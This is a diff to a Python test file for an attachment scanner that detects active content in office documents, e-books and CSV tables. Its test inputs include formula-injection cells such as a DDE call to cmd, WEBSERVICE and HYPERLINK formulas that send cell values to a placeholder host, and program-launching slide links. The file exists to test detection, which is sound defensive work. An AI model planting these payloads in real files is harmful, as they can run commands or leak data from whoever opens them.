@@ -10,10 +10,11 @@ from pypdf import PdfWriter
 from pypdf.generic import DictionaryObject, NameObject
 
 from jisr.content.attachments.documents.document_findings import DocumentFindings
-from jisr.content.attachments.documents.office_zip import read_office_zip
+from jisr.content.attachments.documents.office_zip import read_book, read_office_zip
 from jisr.content.attachments.documents.ole import read_ole
 from jisr.content.attachments.documents.pdf import read_pdf
 from jisr.content.attachments.documents.rtf import read_rtf
+from jisr.content.attachments.documents.table import read_table
 from jisr.content.attachments.formats.damage import DamagedFileError
 from tests.content.attachments import makers
 from tests.content.attachments.compound_file import compound_file
@@ -145,6 +146,7 @@ def test_a_picture_in_a_document_tells_its_place(tmp_path: Path) -> None:
         {"xl/_rels/workbook.xml.rels": related("xlMacrosheet", "sheets/sheet9.xml")},
         {IN_WORD: related("vbaProject", "theme/theme2.bin")},
         {"BASIC/Standard/x.xml": "<x/>"},
+        {"content.xml": '<o><a xlink:href="vnd.sun.star.script:x"/></o>'},
         {"content.xml": '<o xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><script:event-listener/></o>'},
     ],
 )
@@ -165,6 +167,10 @@ def test_macros_are_found_wherever_they_are(files: dict[str, str | bytes]) -> No
         {"xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd"/></x>'},
         {"xl/worksheets/sheet1.xml": '<x><f>WEBSERVICE("https://x.example/"&amp;A1)</f></x>'},
         {"word/embeddings/a.bin": compound_file({"\x01Ole10Native": b"x"})},
+        {IN_WORD: related("aFChunk", "chunk.html")},
+        {"ppt/slides/slide1.xml": '<p><hlinkClick action="ppaction://program"/></p>'},
+        {"xl/connections.xml": '<x><webPr url="https://x.example"/></x>'},
+        {IN_WORD: related("image", "https://x.example/1", is_outside=True).encode("utf-16")},
         {"content.xml": '<o xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://x.example/1.png"/></o>'},
         {"content.xml": "<o><office:dde-source/></o>"},
     ],
@@ -172,6 +178,42 @@ def test_macros_are_found_wherever_they_are(files: dict[str, str | bytes]) -> No
 def test_what_an_office_document_loads_is_found(files: dict[str, str | bytes]) -> None:
     """Templates and pictures of other hosts, DDE, functions that ask the web and packed files are found."""
     assert read_office_zip(office(files)).actions
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a,=cmd|' /C calc'!A0",
+        "name\n=WEBSERVICE(A1)",
+        '"=HYPERLINK(""https://x.example/""&A1)"',
+        "+IMPORTXML(A1)",
+        "a;@call(1)",
+        "-1+DDE|'x'!1",
+    ],
+)
+def test_a_table_that_calls_something_is_found(text: str) -> None:
+    """A cell that a program for tables would run is found; a number and a sum are none."""
+    assert read_table(text.encode()).actions
+    assert read_table(text.encode("utf-16")).actions
+    assert read_table(b"name,-5,+964 770,=SUM(A1:A3),@dijla,a-b|c,- a call (b)\n") == DocumentFindings()
+
+
+def test_a_book_that_runs_or_loads_is_found() -> None:
+    """A program or a picture of another host in a book is found; its author and its links are no fault."""
+    page = '<html xmlns="http://www.w3.org/1999/xhtml"><body>%s</body></html>'
+    for inside in ("<script>x</script>", '<img src="https://x.example/1"/>', '<p onclick="x()"/>'):
+        assert read_book(office({"a.xhtml": page % inside})).actions
+    files: dict[str, str | bytes] = {
+        "a.xhtml": page % '<a href="https://x.example">x</a>',
+        "b.opf": "<dc:creator>Rojda</dc:creator>",
+    }
+    assert read_book(office(files)) == DocumentFindings()
+
+
+def test_an_encrypted_office_document_is_refused() -> None:
+    """What is behind a password cannot be looked into."""
+    with pytest.raises(DamagedFileError):
+        read_office_zip(office({"META-INF/manifest.xml": "<m><manifest:encryption-data/></m>"}))
 
 
 def test_an_office_document_with_links_is_silent() -> None:
@@ -232,5 +274,5 @@ def test_a_closed_document_of_before_2007_is_refused(data: bytes) -> None:
 
 def test_people_in_rtf_are_found() -> None:
     """Author, operator, revisers and the folder of a template are told, in whatever letters they are written."""
-    assert read_rtf(PEOPLE).people == ["C:\\Users\\x.dot", "Rojda", "د?ل?", "Shno"]
+    assert read_rtf(PEOPLE).people == ["C:\\Users\\x.dot", "Rojda", "دل", "Shno"]
     assert read_rtf(rb"{\rtf1 DDE is a word here, \objectname, {\field{\*\fldinst HYPERLINK x}}}") == DocumentFindings()
